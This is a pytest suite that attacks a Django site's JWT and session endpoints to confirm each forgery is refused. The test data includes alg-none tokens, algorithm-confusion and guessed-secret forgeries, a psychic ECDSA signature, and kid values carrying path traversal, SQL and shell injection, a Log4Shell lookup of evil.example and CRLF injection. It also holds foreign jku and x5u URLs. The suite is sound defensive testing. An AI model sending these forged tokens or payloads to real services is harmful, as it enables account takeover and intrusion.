"""Attacks on tokens and sessions, at a deployed site: each is refused with the right status, in problem details, and never with a 5xx.

From RFC 8725 (JWT best current practices), RFC 9700 (OAuth 2.0 security best current practice) and OWASP's cheat sheets on JSON Web Tokens,
cross-site request forgery and authentication. What needs the site's own key, such as a true signature over false claims, is signed on the
host: these attackers know more than any real one. Everybody here has a name of their own, so that no other test is locked out.
"""

from __future__ import annotations

import base64
import dataclasses
import datetime
import hashlib
import hmac
import json
import secrets
import statistics
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.x509.oid import NameOID

# The class of the fixture `visitor`, which is in a conftest and so cannot be imported.
Visitor = Any

pytestmark = [
    pytest.mark.tier("web"),
    pytest.mark.disruptive,
    pytest.mark.once,
    pytest.mark.fact("site_embedded"),
]

ACCESS, REFRESH, CSRF = "__Host-slipway-access", "__Secure-slipway-refresh", "csrftoken"
JSON = {"Content-Type": "application/json"}
PASSWORD = secrets.token_urlsafe(12)
PEOPLE = ("victim", "reuser", "leaver", "goner", "changer", "roamer", "rider", "late", "second", "third")


def another(visitor: Visitor) -> Visitor:
    """Somebody else at the same place: other connections, and no cookies."""
    return type(visitor)(visitor.address, visitor.domain, visitor.ca)


def encoded(data: Any) -> str:
    """The base64url of bytes, or of a value's JSON."""
    content = data if isinstance(data, bytes) else json.dumps(data).encode()
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def decoded(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def refused(answer: httpx.Response, *statuses: int) -> None:
    """The status is one of these, and the answer is a problem that says so (RFC 9457)."""
    assert answer.status_code in statuses, f"{answer.status_code}: {answer.text[:300]}"
    assert answer.headers["content-type"].startswith("application/problem+json")
    problem = answer.json()
    assert problem["status"] == answer.status_code
    assert problem["title"]
    if answer.status_code == 401:
        assert answer.headers["www-authenticate"].startswith("Bearer")


def hello(visitor: Visitor, token: str | bytes, **more: Any) -> httpx.Response:
    """What the protected view says to who shows a token."""
    value = token if isinstance(token, bytes) else token.encode()
    answer: httpx.Response = visitor.get("/hello/", headers={"Authorization": b"Bearer " + value}, **more)
    return answer


def ended(answer: httpx.Response) -> None:
    refused(answer, 401)
    assert answer.json()["code"] == "session_ended"


# --- The workshop: people of our own, and tokens that only the site itself can sign -----------------------------------------------------

# Runs in the site's Django. `given` is put before it; what it prints is read as JSON.
SIGN = """
import json
from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import make_password
from slipway_jwt import conf, jws, services
users = get_user_model().objects
encoded_password = make_password(given["password"])
for name in given["people"]:
    user = users.create(username=name, email=f"{name}@example.org", password=encoded_password)
victim = users.get(username=given["people"][0])
other = users.get(username=given["people"][1])
pair = services.begin(user=victim, visitor=services.Visitor(agent="workshop"))
others = services.begin(user=other, visitor=services.Visitor(agent="workshop"))
key = conf.current().keys.signing
def sign(header, payload):
    message = jws.encode(header.encode("utf-8", "surrogatepass")) + b"." + jws.encode(payload.encode("latin-1"))
    # The set itself signs nothing under a header of somebody's choice, so its key is taken out.
    return (message + b"." + jws.encode(key._algorithm.sign(message, key._signs))).decode()
whole = jws.json_object(jws.split(pair.access.text).payload)
renewing = jws.json_object(jws.split(pair.refresh.text).payload)
header = jws.split(pair.access.text).header
swap = {"@other": str(other.pk), "@others_sid": str(others.session.pk)}
def changed(claims, change):
    claims = {name: value for name, value in claims.items() if name not in change.get("drop", ())}
    for name, value in change.get("set", {}).items():
        claims[name] = swap.get(value, value) if isinstance(value, str) else value
    return claims
made = {}
for name, change in given["wanted"].items():
    said = change.get("header_text") or json.dumps({**header, **change.get("header", {})})
    if "payload_text" in change:
        payload = change["payload_text"].replace("@claims", json.dumps(whole)[1:-1])
        made[name] = [sign(said, payload)] * 2
    else:
        made[name] = [sign(said, json.dumps(changed(claims, change))) for claims in (whole, renewing)]
print("<<<" + json.dumps({"access": pair.access.text, "refresh": pair.refresh.text, "others": others.access.text, "made": made}) + ">>>")
"""

NOW = int(time.time())
DEEP = "[" * 3000 + "]" * 3000
# True signatures over what must not be accepted all the same: RFC 7519, section 4.1, and RFC 8725, sections 3.8 to 3.12.
FORGED: dict[str, dict[str, Any]] = {
    "expired": {"set": {"iat": NOW - 900, "nbf": NOW - 900, "exp": NOW - 600}},
    "expired long ago": {"set": {"exp": 0}},
    "exp before 1970": {"set": {"exp": -1}},
    "exp missing": {"drop": ["exp"]},
    "exp null": {"set": {"exp": None}},
    "exp a text": {"set": {"exp": str(NOW + 300)}},
    "exp true": {"set": {"exp": True}},
    "exp a list": {"set": {"exp": [NOW + 300]}},
    "exp beyond the calendar": {"set": {"exp": 10**18}},
    "exp a huge integer": {"payload_text": '{@claims, "exp": ' + "9" * 4000 + "}"},
    "exp 1e400": {"payload_text": '{@claims, "exp": 1e400}'},
    "exp infinite": {"payload_text": '{@claims, "exp": Infinity}'},
    "exp not a number": {"payload_text": '{@claims, "exp": NaN}'},
    "not valid yet": {"set": {"nbf": NOW + 3600}},
    "nbf a text": {"set": {"nbf": "now"}},
    "nbf an object": {"set": {"nbf": {}}},
    "issued in the future": {"set": {"iat": NOW + 3600}},
    "iat a text": {"set": {"iat": "now"}},
    "iat an object": {"set": {"iat": {}}},
    "iat negative": {"set": {"iat": -(10**12)}},
    "iat missing": {"drop": ["iat"]},
    "jti missing": {"drop": ["jti"]},
    "jti a list": {"set": {"jti": ["a"]}},
    "jti huge": {"set": {"jti": "a" * 6000}},
    "jti of control characters": {"set": {"jti": "a\u0000b\n"}},
    "sub missing": {"drop": ["sub"]},
    "sub null": {"set": {"sub": None}},
    "sub a list": {"set": {"sub": [1]}},
    "sub an object": {"set": {"sub": {"pk__gt": 0}}},
    "sub of another person, with our session": {"set": {"sub": "@other"}},
    "sub huge": {"set": {"sub": "9" * 400}},
    "sub negative": {"set": {"sub": "-1"}},
    "sub SQL": {"set": {"sub": "1 OR 1=1"}},
    "sub with a NUL": {"set": {"sub": "1\u0000"}},
    "sub half a character": {"set": {"sub": "\ud800"}},
    "iss missing": {"drop": ["iss"]},
    "iss of somebody else": {"set": {"iss": "https://evil.example"}},
    "iss nearly ours": {"set": {"iss": "https://slipway.test.evil.example"}},
    "iss a list": {"set": {"iss": ["https://evil.example"]}},
    "aud missing": {"drop": ["aud"]},
    "aud of another service": {"set": {"aud": "https://evil.example"}},
    "aud of other services": {"set": {"aud": ["https://evil.example", "x"]}},
    "aud empty": {"set": {"aud": []}},
    "aud an object": {"set": {"aud": {}}},
    "token_type missing": {"drop": ["token_type"]},
    "token_type unknown": {"set": {"token_type": "admin"}},
    "token_type a list": {"set": {"token_type": ["access", "refresh"]}},
    "sid missing": {"drop": ["sid"]},
    "sid of nobody": {"set": {"sid": "00000000-0000-4000-8000-000000000000"}},
    "sid of another person": {"set": {"sid": "@others_sid"}},
    "sid no uuid": {"set": {"sid": "../../etc/passwd"}},
    "sid an object": {"set": {"sid": {}}},
    "claims twice": {"payload_text": '{@claims, "sub": "1"}'},
    "claims a list": {"payload_text": "[{@claims}]"},
    "claims a text": {"payload_text": '"claims"'},
    "claims a number": {"payload_text": "5"},
    "claims null": {"payload_text": "null"},
    "claims empty": {"payload_text": "{}"},
    "claims no JSON": {"payload_text": "{"},
    "claims no UTF-8": {"payload_text": '{@claims, "x": "\xff\xfe"}'},
    "claims with a byte order mark": {"payload_text": "\xef\xbb\xbf{@claims}"},
    "claims nested deep": {"payload_text": '{@claims, "exp": ' + DEEP + "}"},
    "a token inside a token": {"header": {"cty": "JWT"}, "payload_text": '"eyJhbGciOiJub25lIn0.e30."'},
    "a document, not a token": {"header": {"typ": "slipway-document+jwt"}},
    "a log-out token": {"header": {"typ": "logout+jwt"}},
    "typ a list": {"header": {"typ": ["JWT"]}},
    "crit of an unknown extension": {"header": {"crit": ["exp"], "exp": NOW + 300}},
    "crit empty": {"header": {"crit": []}},
    "crit a text": {"header": {"crit": "b64"}},
    "payload not encoded (RFC 7797)": {"header": {"crit": ["b64"], "b64": False}},
    "payload not encoded, not critical": {"header": {"b64": False}},
    "compressed": {"header": {"zip": "DEF"}},
    "header twice": {"header_text": '{"alg": "none", "alg": "HS256", "kid": "x"}'},
    "header a list": {"header_text": "[]"},
    "header null": {"header_text": "null"},
    "header no JSON": {"header_text": "{"},
    "header nested deep": {"header_text": '{"alg": "HS256", "x": ' + DEEP + "}"},
    "header huge": {"header_text": json.dumps({"alg": "HS256", "x": "a" * 6000})},
}


@dataclasses.dataclass(frozen=True)
class Lab:
    """What an attacker here starts with."""

    people: dict[str, str]
    access: str
    refresh: str
    others: str
    made: dict[str, list[str]]
    published: list[dict[str, Any]]

    @property
    def header(self) -> dict[str, Any]:
        found: dict[str, Any] = decoded(self.access.split(".")[0])
        return found

    @property
    def claims(self) -> dict[str, Any]:
        found: dict[str, Any] = decoded(self.access.split(".")[1])
        return found


@pytest.fixture(scope="module")
def lab(
    host: Any, inventory: dict[str, Any], visitor_of: Callable[..., Visitor], manage: Callable[..., str]
) -> Iterator[Lab]:
    """People and forged tokens, in one call, since each costs a start of Django; and gone without a trace afterwards."""
    site = inventory[str(host.backend.get_pytest_id()).rpartition("://")[2]]
    visitor = visitor_of(site)
    mark = secrets.token_hex(4)
    people = {name: f"{name}-{mark}" for name in PEOPLE}
    given = {"password": PASSWORD, "people": list(people.values()), "wanted": FORGED}
    printed = manage(site, f"given = __import__('json').loads({json.dumps(given)!r})\n{SIGN}")
    found = json.loads(printed.partition("<<<")[2].partition(">>>")[0])
    published = visitor.get("/.well-known/jwks.json").json()["keys"]
    yield Lab(people=people, published=published, **found)
    manage(
        site,
        f"from django.contrib.auth import get_user_model as g; g().objects.filter(username__endswith={'-' + mark!r}).delete()",
    )


@dataclasses.dataclass(frozen=True)
class Pair:
    """Somebody's tokens."""

    access: str
    refresh: str


def log_in(visitor: Visitor, name: str, password: str = PASSWORD) -> Pair:
    answer = visitor.post("/api/token/", {"username": name, "password": password})
    assert answer.status_code == 200, answer.text
    return Pair(**answer.json())


def renew(visitor: Visitor, refresh: str) -> httpx.Response:
    answer: httpx.Response = visitor.post("/api/token/refresh/", {"refresh": refresh})
    return answer


def test_what_nobody_has_touched_opens_the_door(visitor: Visitor, lab: Lab) -> None:
    """Or none of the refusals below would prove anything."""
    assert hello(visitor, lab.access).status_code == 200
    assert visitor.post("/api/token/verify/", {"token": lab.access}).status_code == 200
    assert {"iss", "sub", "aud", "exp", "nbf", "iat", "jti", "sid"} <= set(lab.claims)


@pytest.mark.parametrize("name", FORGED)
def test_a_true_signature_makes_nothing_true(visitor: Visitor, lab: Lab, name: str) -> None:
    access, refresh = lab.made[name]
    refused(hello(visitor, access), 401)
    refused(visitor.post("/api/token/verify/", {"token": access}), 401)
    refused(renew(visitor, refresh), 401)


# --- Without the key: RFC 8725, sections 2.1, 2.2, 3.1 to 3.3, 3.10 ---------------------------------------------------------------------


def unsigned(algorithm: Any) -> Callable[[Lab], str]:
    return lambda lab: f"{encoded({**lab.header, 'alg': algorithm})}.{lab.access.split('.')[1]}."


def resigned(**header: Any) -> Callable[[Lab], str]:
    """Another header over the old claims and signature."""

    def attack(lab: Lab) -> str:
        _, payload, signature = lab.access.split(".")
        return f"{encoded({**lab.header, **header})}.{payload}.{signature}"

    return attack


def by_hmac(key: bytes, algorithm: str = "HS256", **header: Any) -> Callable[[Lab], str]:
    """Signed with a secret of the attacker's choice, which the header may name."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[algorithm]

    def attack(lab: Lab) -> str:
        message = f"{encoded({**lab.header, 'alg': algorithm, **header})}.{lab.access.split('.')[1]}"
        return f"{message}.{encoded(hmac.digest(key, message.encode(), digest))}"

    return attack


EVIL_RSA = rsa.generate_private_key(public_exponent=65537, key_size=2048)
EVIL_EC = ec.generate_private_key(ec.SECP256R1())
NUMBERS = EVIL_RSA.public_key().public_numbers()
EVIL_JWK = {
    "kty": "RSA",
    "kid": "evil",
    "alg": "RS256",
    "use": "sig",
    "n": encoded(NUMBERS.n.to_bytes(256, "big")),
    "e": "AQAB",
}
EVIL_NAME = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "evil.example")])
EVIL_CERTIFICATE = (
    x509.CertificateBuilder()
    .subject_name(EVIL_NAME)
    .issuer_name(EVIL_NAME)
    .public_key(EVIL_RSA.public_key())
    .serial_number(1)
    .not_valid_before(datetime.datetime.now(datetime.UTC))
    .not_valid_after(datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=1))
    .sign(EVIL_RSA, hashes.SHA256())
    .public_bytes(serialization.Encoding.DER)
)


def by_rsa(**header: Any) -> Callable[[Lab], str]:
    """Truly signed, with a key of the attacker's."""

    def attack(lab: Lab) -> str:
        message = f"{encoded({**lab.header, 'alg': 'RS256', **header})}.{lab.access.split('.')[1]}"
        return f"{message}.{encoded(EVIL_RSA.sign(message.encode(), padding.PKCS1v15(), hashes.SHA256()))}"

    return attack


def by_ec(signature: bytes | None, **header: Any) -> Callable[[Lab], str]:
    """ECDSA, or its psychic signature of noughts (CVE-2022-21449)."""

    def attack(lab: Lab) -> str:
        message = f"{encoded({**lab.header, 'alg': 'ES256', **header})}.{lab.access.split('.')[1]}"
        return f"{message}.{encoded(signature or EVIL_EC.sign(message.encode(), ec.ECDSA(hashes.SHA256())))}"

    return attack


def with_signature(change: Callable[[str], str]) -> Callable[[Lab], str]:
    def attack(lab: Lab) -> str:
        message, _, signature = lab.access.rpartition(".")
        return f"{message}.{change(signature)}"

    return attack


def twin(signature: str) -> str:
    """Another text for the same bytes: its last character has bits that decoders ignore unless they are strict."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return signature[:-1] + alphabet[alphabet.index(signature[-1]) ^ 1]


def with_claims(**claims: Any) -> Callable[[Lab], str]:
    def attack(lab: Lab) -> str:
        header, _, signature = lab.access.split(".")
        return f"{header}.{encoded({**lab.claims, **claims})}.{signature}"

    return attack


def confused(form: str) -> Callable[[Lab], str]:
    """HMAC with what is public as the secret: a verifier that lets the header choose takes it (RFC 8725, section 2.1)."""

    def attack(lab: Lab) -> str:
        jwk = lab.published[0] if lab.published else EVIL_JWK
        key = {
            "jwk": json.dumps(jwk),
            "member": jwk.get("x") or jwk.get("n"),
            "pem": EVIL_RSA.public_key()
            .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
            .decode(),
        }[form]
        return by_hmac(str(key).encode(), kid=jwk["kid"])(lab)

    return attack


UNSIGNED: list[Any] = [
    "none",
    "None",
    "NONE",
    "nOnE",
    " none",
    "none\u0000",
    "",
    None,
    0,
    False,
    [],
    ["none"],
    {},
    "dir",
    "HS1",
    "A128KW",
]
KIDS: list[Any] = [
    "",
    None,
    0,
    True,
    [],
    {},
    "unknown",
    "evil",
    "../../../../../../dev/null",
    "/dev/null",
    "file:///etc/passwd",
    "' UNION SELECT 'secret' -- ",
    "x' OR '1'='1",
    "; sleep 9 #",
    "| sleep 9",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "https://evil.example/jwks.json",
    "\u0000",
    "a\r\nSet-Cookie: a=b",
    "\u202e",
    "a" * 700,
    "a" * 7000,
]
KEYLESS: dict[str, Callable[[Lab], str]] = {
    **{f"alg {algorithm!r}, no signature": unsigned(algorithm) for algorithm in UNSIGNED},
    **{
        f"alg {algorithm!r}, the old signature": resigned(alg=algorithm)
        for algorithm in ("none", "nOnE", "hs256", "HS999", "RSA-OAEP", 5, None)
    },
    "signature stripped": with_signature(lambda _: ""),
    "signature and its dot stripped": lambda lab: lab.access.rpartition(".")[0],
    "signature of one letter": with_signature(lambda _: "A"),
    "signature begins otherwise": with_signature(lambda old: ("A" if old[0] != "A" else "B") + old[1:]),
    "signature cut": with_signature(lambda old: old[:-4]),
    "signature longer": with_signature(lambda old: old + "AAAA"),
    "signature twice": with_signature(lambda old: f"{old}.{old}"),
    "signature padded": with_signature(lambda old: f"{old}="),
    "signature in another text": with_signature(twin),
    "signature of another token": lambda lab: f"{lab.access.rpartition('.')[0]}.{lab.refresh.rpartition('.')[2]}",
    "signature of noughts": with_signature(lambda old: "A" * len(old)),
    "claims of somebody else": lambda lab: f"{lab.others.rpartition('.')[0]}.{lab.access.rpartition('.')[2]}",
    "claims: another person": with_claims(sub="1"),
    "claims: a longer life": with_claims(exp=NOW + 10**6),
    "claims: staff": with_claims(is_staff=True, is_superuser=True, scope="admin"),
    **{f"a public key as the secret: {form}": confused(form) for form in ("jwk", "member", "pem")},
    **{
        f"a guessed secret: {key!r}": by_hmac(key)
        for key in (b"", b"secret", b"changeme", b"null", b"undefined", b"\0" * 32)
    },
    "a guessed secret, HS384": by_hmac(b"secret", "HS384"),
    "a guessed secret, HS512": by_hmac(b"secret", "HS512"),
    "a foreign key under our kid": by_rsa(),
    "a foreign key in jwk": by_rsa(jwk=EVIL_JWK),
    "a foreign key in jwk, under its own kid": by_rsa(jwk=EVIL_JWK, kid="evil"),
    "a foreign key at jku": by_rsa(jku="https://evil.example/jwks.json", kid="evil"),
    "a foreign key at a jku of the host itself": by_rsa(jku="http://127.0.0.1:22/", kid="evil"),
    "a foreign key in x5c": by_rsa(x5c=[base64.b64encode(EVIL_CERTIFICATE).decode()[:600]]),
    "a foreign key at x5u": by_rsa(x5u="https://evil.example/x.pem"),
    "a foreign key by x5t": by_rsa(x5t=encoded(hashlib.sha1(EVIL_CERTIFICATE, usedforsecurity=False).digest())),
    "a foreign curve": by_ec(None),
    "a psychic signature": by_ec(b"\0" * 64),
    **{f"kid {str(kid)[:30]!r} ({type(kid).__name__}, {len(str(kid))})": by_hmac(b"", kid=kid) for kid in KIDS},
    "kid of a file whose content is known": by_hmac(b"2\n", kid="../../../../proc/sys/kernel/randomize_va_space"),
    "encrypted (JWE)": lambda lab: f"{encoded({'alg': 'dir', 'enc': 'A256GCM'})}..{'A' * 16}.{'A' * 64}.{'A' * 22}",
    "encrypted, by our public key": lambda lab: (
        f"{encoded({'alg': 'RSA-OAEP', 'enc': 'A256GCM'})}.{'A' * 342}.{'A' * 16}.{'A' * 64}.{'A' * 22}"
    ),
    "JSON serialization": lambda lab: json.dumps(
        dict(zip(("protected", "payload", "signature"), lab.access.split("."), strict=True))
    ),
    "header nested deep": lambda lab: f"{encoded(DEEP.encode())}.{'.'.join(lab.access.split('.')[1:])}",
    "header no base64": lambda lab: f"!!!!.{'.'.join(lab.access.split('.')[1:])}",
    "header standard base64": lambda lab: f"{lab.access.split('.')[0]}+/==.{'.'.join(lab.access.split('.')[1:])}",
    "blanks inside": lambda lab: lab.access.replace(".", " . "),
    "one dot": lambda lab: ".",
    "two dots": lambda lab: "..",
    "a thousand dots": lambda lab: "." * 1000,
    "the word null": lambda lab: "null",
    "seven kilobytes": lambda lab: lab.access + "A" * 7000,
    "fifteen kilobytes": lambda lab: lab.access + "A" * 15000,
}


@pytest.mark.parametrize("attack", KEYLESS.values(), ids=KEYLESS)
def test_nobody_signs_but_the_site(visitor: Visitor, lab: Lab, attack: Callable[[Lab], str]) -> None:
    token = attack(lab)
    refused(hello(visitor, token), 401)
    refused(visitor.post("/api/token/verify/", {"token": token}), 400, 401)
    refused(renew(visitor, token), 400, 401)


def test_the_published_keys_are_public_halves(visitor: Visitor, lab: Lab) -> None:
    """RFC 7517, section 9.2: whoever has a private member can be everybody."""
    for key in lab.published:
        assert key["kty"] != "oct"
        assert not {"d", "p", "q", "dp", "dq", "qi", "oth", "k", "slipway"} & set(key)
        assert key["use"] == "sig"


# --- The wrong token, the wrong place ---------------------------------------------------------------------------------------------------


def test_each_kind_of_token_opens_its_own_door_only(visitor: Visitor, lab: Lab) -> None:
    """RFC 8725, section 3.12."""
    refused(hello(visitor, lab.refresh), 401)
    refused(visitor.post("/api/token/verify/", {"token": lab.refresh}), 401)
    refused(renew(visitor, lab.access), 401)
    refused(visitor.post("/api/token/blacklist/", {"refresh": lab.access}), 401)
    refused(visitor.post("/api/documents/verify/", {"document": lab.access}), 400)
    assert hello(visitor, lab.access).status_code == 200


def test_a_signed_document_is_no_token(visitor: Visitor, lab: Lab) -> None:
    """Not even one that says everything that an access token says."""
    bearer = {"Authorization": f"Bearer {lab.access}"}
    signed = visitor.post("/api/documents/", {"payload": lab.claims}, headers=bearer)
    assert signed.status_code == 200, signed.text
    document = signed.json()["document"]
    refused(hello(visitor, document), 401)
    refused(visitor.post("/api/token/verify/", {"token": document}), 401)
    header, _, signature = document.split(".")
    refused(visitor.post("/api/documents/verify/", {"document": f"{header}.{encoded({'price': 1})}.{signature}"}), 400)


@pytest.mark.parametrize("name", ["access_token", "token", "jwt", "bearer_token", "access"])
def test_a_token_in_the_address_is_not_looked_at(visitor: Visitor, lab: Lab, name: str) -> None:
    """RFC 9700, section 4.3.2: addresses end up in logs and histories."""
    refused(visitor.get(f"/hello/?{name}={lab.access}"), 401)


@pytest.mark.parametrize("name", ["access_token", "token", "jwt", "slipway-access", "Authorization"])
def test_a_token_in_another_cookie_is_not_looked_at(visitor: Visitor, lab: Lab, name: str) -> None:
    refused(visitor.get("/hello/", headers={"Cookie": f"{name}={lab.access}"}), 401)


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Bearer",
        "Basic {}",
        "Token {}",
        "JWT {}",
        "Bearer {} x",
        "Bearer{}",
        "Bearer:{}",
        '"Bearer {}"',
        "Bearer {}, Bearer {}",
    ],
)
def test_a_token_that_is_not_presented_as_one_is_refused(visitor: Visitor, lab: Lab, value: str) -> None:
    refused(visitor.get("/hello/", headers={"Authorization": value.replace("{}", lab.access)}), 401)


@pytest.mark.parametrize(
    "value", [b"Bearer \xff\xfe\xfd", "Bearer ééé".encode(), b"Bearer \xe2\x80\xae", b"Bearer a\tb"]
)
def test_a_token_of_other_characters_is_refused(visitor: Visitor, value: bytes) -> None:
    refused(visitor.get("/hello/", headers={"Authorization": value}), 400, 401)


def request(visitor: Visitor, *headers: bytes) -> bytes:
    lines = [b"GET /hello/ HTTP/1.1", f"Host: {visitor.domain}".encode(), *headers, b"Connection: close", b"", b""]
    return b"\r\n".join(lines)


@pytest.mark.parametrize("order", ["good first", "good last", "both good"])
def test_two_authorization_headers_are_refused(visitor: Visitor, lab: Lab, order: str) -> None:
    """Two programs in a row may each look at another one of the two."""
    good, bad = f"Authorization: Bearer {lab.access}".encode(), b"Authorization: Bearer nonsense"
    headers = {"good first": [good, bad], "good last": [bad, good], "both good": [good, good]}[order]
    assert visitor.raw(request(visitor, *headers)).status in {400, 401}


@pytest.mark.parametrize("byte", [b"\0", b"\x01", b"\x0b", b"\x7f"])
def test_a_control_character_in_a_header_is_refused(visitor: Visitor, lab: Lab, byte: bytes) -> None:
    token = lab.access.encode()
    assert visitor.raw(request(visitor, b"Authorization: Bearer " + token[:9] + byte + token[9:])).status in {400, 401}


@pytest.mark.parametrize("size", [17, 30])
def test_a_token_of_more_than_sixteen_kilobytes_is_refused(visitor: Visitor, lab: Lab, size: int) -> None:
    assert visitor.raw(request(visitor, b"Authorization: Bearer " + b"A" * size * 1024)).status in {400, 401, 413, 431}


# --- Bodies -----------------------------------------------------------------------------------------------------------------------------

PLACES = ["/api/token/", "/api/token/refresh/", "/api/token/verify/", "/api/token/blacklist/", "/api/documents/verify/"]


def everywhere(value: str) -> bytes:
    """An object in which every name that any of these places knows has this value."""
    names = ("username", "password", "refresh", "token", "document")
    return ("{" + ", ".join(f'"{name}": {value}' for name in names) + "}").encode()


BODIES: dict[str, bytes] = {
    "nothing": b"",
    "null": b"null",
    "true": b"true",
    "a number": b"5",
    "a text": b'"text"',
    "a list": b"[]",
    "a list of objects": b'[{"username": "a", "password": "b", "refresh": "c", "token": "d"}]',
    "half an object": b'{"username": "a"',
    "two objects": b"{}{}",
    "ten thousand brackets": b"[" * 10_000,
    "nested deep": b'{"refresh": ' + b"[" * 5_000 + b"]" * 5_000 + b"}",
    "objects nested deep": b'{"a":' * 2_000 + b"1" + b"}" * 2_000,
    "infinity": b'{"username": Infinity, "refresh": NaN, "token": -Infinity, "document": NaN}',
    "a huge number": b'{"username": 1, "refresh": ' + b"9" * 9_000 + b"}",
    "a large exponent": b'{"username": 1e999999, "refresh": 1e999999, "token": 1e999999, "document": 1e999999}',
    "half a character": everywhere('"\\ud800"'),
    "a NUL": everywhere('"a\\u0000"'),
    "no UTF-8": everywhere('"\xff"').replace("\xff".encode(), b"\xff"),
    "UTF-16": '{"username": "a", "password": "b"}'.encode("utf-16"),
    "objects": everywhere('{"a": 1}'),
    "lists": everywhere('["a"]'),
    "truth": everywhere("true"),
    "nulls": everywhere("null"),
    "operators": everywhere('{"$ne": ""}'),
    "names twice": everywhere('"a"')[:-1] + b", " + everywhere('"b"')[1:],
    "long texts": everywhere('"' + "a" * 20_000 + '"'),
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_a_body_that_makes_no_sense_is_refused(visitor: Visitor, place: str, body: bytes) -> None:
    """A bad request, except that nothing at all is a request without credentials where a cookie could have been one."""
    refused(visitor.request("POST", place, content=body, headers=JSON), *((400, 401) if body == b"" else (400, 413)))


def test_a_body_that_is_too_long_is_refused(visitor: Visitor) -> None:
    body = b'{"username": "' + b"a" * 400_000 + b'"}'
    refused(visitor.request("POST", "/api/token/", content=body, headers=JSON), 400, 413)


@pytest.mark.parametrize(
    "kind",
    [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
        "application/json-patch",
        "x",
    ],
)
def test_a_body_that_is_not_json_by_its_type_is_not_read(visitor: Visitor, kind: str) -> None:
    """So no form of another site can send one: it would need leave by CORS first."""
    body = json.dumps({"username": "victim", "password": PASSWORD}).encode()
    refused(visitor.request("POST", "/api/token/", content=body, headers={"Content-Type": kind}), 415)


@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE"])
def test_a_token_is_asked_for_by_post_alone(visitor: Visitor, method: str) -> None:
    refused(visitor.request(method, "/api/token/"), 405)


@pytest.mark.parametrize(
    "session",
    ["1", "%2e%2e", "%00", "00000000-0000-4000-8000-000000000000", "a" * 3000, "%27%20OR%201=1%20--", "\u202e"],
)
def test_a_session_that_is_none_is_not_found(visitor: Visitor, lab: Lab, session: str) -> None:
    path = f"/api/token/sessions/{session}/"
    answer = visitor.request("DELETE", path, headers={"Authorization": f"Bearer {lab.access}"})
    assert 400 <= answer.status_code < 500, answer.text
    assert hello(visitor, lab.access).status_code == 200


# --- Sessions: RFC 9700, section 4.14 ---------------------------------------------------------------------------------------------------


def test_of_eight_uses_at_the_same_time_exactly_one_wins_and_the_family_ends(visitor: Visitor, lab: Lab) -> None:
    pair = log_in(visitor, lab.people["reuser"])
    crowd = [another(visitor) for _ in range(8)]
    start = threading.Barrier(len(crowd))
    answers: list[httpx.Response] = []

    def use(one: Visitor) -> None:
        # The connection is there before the race begins.
        one.get("/healthz")
        start.wait(timeout=30)
        answers.append(renew(one, pair.refresh))

    threads = [threading.Thread(target=use, args=[one]) for one in crowd]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(answer.status_code for answer in answers) == [200] + [401] * 7
    winner = Pair(**next(answer for answer in answers if answer.status_code == 200).json())
    ended(hello(visitor, winner.access))
    ended(renew(visitor, winner.refresh))
    ended(hello(visitor, pair.access))


def test_a_refresh_token_that_is_used_again_ends_its_family_and_no_other(visitor: Visitor, lab: Lab) -> None:
    copied, elsewhere = log_in(visitor, lab.people["reuser"]), log_in(visitor, lab.people["reuser"])
    after = Pair(**renew(visitor, copied.refresh).json())
    assert hello(visitor, after.access).status_code == 200
    ended(renew(visitor, copied.refresh))
    ended(hello(visitor, after.access))
    ended(renew(visitor, after.refresh))
    ended(visitor.post("/api/token/verify/", {"token": after.access}))
    assert hello(visitor, elsewhere.access).status_code == 200


def test_logging_out_with_a_used_refresh_token_ends_the_family_too(visitor: Visitor, lab: Lab) -> None:
    old = log_in(visitor, lab.people["reuser"])
    new = Pair(**renew(visitor, old.refresh).json())
    ended(visitor.post("/api/token/blacklist/", {"refresh": old.refresh}))
    ended(hello(visitor, new.access))


def test_logging_out_ends_access_at_once(visitor: Visitor, lab: Lab) -> None:
    pair = log_in(visitor, lab.people["roamer"])
    assert visitor.post("/api/token/blacklist/", {"refresh": pair.refresh}).status_code == 200
    ended(hello(visitor, pair.access))
    ended(renew(visitor, pair.refresh))
    ended(visitor.post("/api/token/blacklist/", {"refresh": pair.refresh}))


def test_nobody_sees_or_ends_the_session_of_somebody_else(visitor: Visitor, lab: Lab) -> None:
    mine, theirs = log_in(visitor, lab.people["roamer"]), log_in(visitor, lab.people["second"])
    bearer = {"Authorization": f"Bearer {mine.access}"}
    family = decoded(theirs.access.split(".")[1])["sid"]
    listed = visitor.get("/api/token/sessions/", headers=bearer).json()["sessions"]
    assert family not in {session["id"] for session in listed}
    refused(visitor.request("DELETE", f"/api/token/sessions/{family}/", headers=bearer), 404)
    assert visitor.request("DELETE", "/api/token/sessions/", headers=bearer).status_code == 204
    ended(hello(visitor, mine.access))
    assert hello(visitor, theirs.access).status_code == 200


def test_one_session_ends_another_of_the_same_person(visitor: Visitor, lab: Lab) -> None:
    here, there = log_in(visitor, lab.people["roamer"]), log_in(visitor, lab.people["roamer"])
    bearer = {"Authorization": f"Bearer {here.access}"}
    family = decoded(there.access.split(".")[1])["sid"]
    assert visitor.request("DELETE", f"/api/token/sessions/{family}/", headers=bearer).status_code == 204
    ended(hello(visitor, there.access))
    ended(renew(visitor, there.refresh))
